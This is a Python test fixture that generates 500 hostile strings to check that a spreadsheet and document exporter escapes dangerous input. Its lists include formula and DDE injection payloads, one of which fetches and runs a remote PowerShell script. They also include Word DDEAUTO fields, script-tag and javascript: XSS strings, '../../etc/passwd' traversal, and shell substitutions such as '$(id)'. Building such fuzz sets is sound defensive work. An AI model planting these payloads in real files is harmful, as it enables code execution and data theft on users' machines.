"""Texts that a careless program would run, tear or lose: 500 of them, and a few of each sort for the gate."""

import itertools
import re

WORDS = ("Phường Hải Châu", "1+1", "A1", "50%", "số liệu", "DN", "x" * 300)
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "=+", "=-", "@SUM", "＝", "﹢", ";=", ",=", "|", "%=",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.invalid?a=\"&A1,\"Bấm\")", "=WEBSERVICE(\"http://x.invalid/\"&A1)",
    "=IMPORTXML(\"http://x.invalid\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"a\")", "=1+1", "=A1", "=SUM(A1:A9)",
    "=REF!", "#REF!", "#N/A", "#VALUE!", "TRUE", "FALSE", "1E5", "00123", "2026-01-31", "3-4", "{=A1}", "==1", "=\"a\"",
    "='01-CĐS'!A1", "'01-CĐS'!$C$5", "='file:///etc/passwd'#$A.A1", "=[a.xlsx]b!A1", "=@A1", "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-@SUM(A1)", "=INFO(\"osversion\")", "=CELL(\"filename\")", "=RTD(\"a\",\"b\")",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")", "=EXEC(\"calc\")", "=CALL(\"a\")", "=NOW()", "=RAND()", "=LAMBDA(x,x)(1)",
)  # fmt: skip
MARKUP = (
    "]]>", "<xml>", "</t></is></c>", "</v><f>1+1</f>", "<![CDATA[x]]>", "<!-- x -->", "<!DOCTYPE x>", "<?xml?>",
    "&amp;", "&lt;b&gt;", "&#0;", "&#x1;", "&nbsp;", "& alone", "&", "<", ">", "\"quoted\"", "'one'", "''", "\\",
    "\\\\server\\x",
    "<script>alert(1)</script>", "<w:t>", "</w:p>", "<w:instrText>", "<a:t>", "&quot;", "&apos;", "%26", "&&", "&P&N",
    "&\"Arial,Bold\"&20", "&A", "&F", "&D&T", "&G", "&Z&F", "&K00FF00", "&[Page]", "&L&C&R", "&1",
)  # fmt: skip
FIELDS = (
    "{TAG}", "{{tag}}", "{}", "{0}", "{name}", "{", "}", "{!r}", "{0.__class__}", "%s", "%(x)s", "%d%n", "%%", "${x}",
    "$(id)", "`id`", "\\1", "\\g<0>", "\\n", "…", "BANG_CHI_TIEU", "MA_TO", "KY", "KY_NAY", "SO_LIEU@KTS.01",
    "**đậm**",
    "{ PAGE }", "{ DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" }", "{ INCLUDETEXT \"c:\\\\a\" }",
    "{ HYPERLINK \"x.invalid\" }", "{ MACROBUTTON a b }", "\x13 DDE \x14a\x15", "«field»", "~24", ">24", "35–40",
    "-", "x",
    "_x000D_", "_x000A_", "_x0041_", "_x005F_", "_x005F_x000D_", "_x0000_", "_xD800_", "x_x0009_y", "_x41_", "_X000D_",
)  # fmt: skip
LETTERS = (
    "😀", "👨‍👩‍👧‍👦", "🇻🇳", "e\u0301\u0302\u0323", "Z\u0351\u034b\u0353" * 20, "\u202eadmin", "\u200fphải\u200e",
    "\u2066x\u2069", "\u200b", "\ufeffBOM", "\u00a0", "\u2028", "\u2029", "\u00ad", "\u0085", "\x7f", "\x00", "\x01a",
    "a\x02b", "\x08\x08", "\x0b", "\x0c", "\x1b[31m", "\x1f", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\U000e0041",
    "ﷺ",
    "한국어", "العربية", "עברית", "𝒟à 𝒩ẵng", "\u1ea0\u0323", "ĐÀ NẴNG", "Đà Na\u0306\u0303ng", "\r\n", "\r", "\n\n\n",
    "a\nb", "a\tb", "  hai đầu  ", "\u3000", "ａ", "①", "½", "ﬁ",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\a", "C:\\Windows\\x.exe", "/etc/passwd", "file:///c:/a", "\\\\x.invalid\\a", "CON",
    "NUL.xlsx", "a/b", "a:b", "a*b?", "[a]b", "a|b", "History", "'a'", "a.", " a ", "...", "https://x.invalid/?a=1&b=2#c",
    "mailto:a@x.invalid?subject=b", "javascript:alert(1)", "smb://x.invalid/a", "~$a.xlsx", ".part", "-rf", "--out",
)  # fmt: skip
LONG = ("=" + "dài " * 10_000, "x" * 40_000, "\n".join("dòng" for _ in range(8_000)), "😀" * 20_000)
LONE = ("\ud800", "a\udfffb", "=\udc00cmd", "\ud83d", "\ude00\ud83d")

_MIXED = [start + word for word, start in itertools.product(WORDS, STARTS)]
_SORTS = (FORMULAS, FIELDS, MARKUP, LETTERS, PATHS, LONG, LONE, _MIXED)
_PAIRS = (first + second for first, second in itertools.product(FORMULAS[:5], MARKUP + FIELDS))
_EVERY = (*itertools.chain.from_iterable(_SORTS), *_PAIRS)
HOSTILE = tuple(dict.fromkeys(_EVERY))[:500]
"""500 different ones."""
SHORT = tuple(itertools.chain.from_iterable(sort[:: max(1, len(sort) // 8)][:8] for sort in _SORTS))[:60]
"""60 of all sorts."""

_DROPPED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_WITHIN = 200


def marked(text: str, number: int) -> str:
    """The text with a number by which it is found again; one that is cut keeps it."""
    return f"{text[:_WITHIN]}⟦{number}⟧{text[_WITHIN:]}"


def numbers_in(text: str) -> list[int]:
    """The numbers of all marked texts in it."""
    return [int(one) for one in re.findall(r"⟦(\d+)⟧", text)]


def same(text: str) -> str:
    """The text as two readings of it are compared: without what XML cannot carry, white space and case."""
    return "".join(_DROPPED.sub("", text).upper().casefold().split())
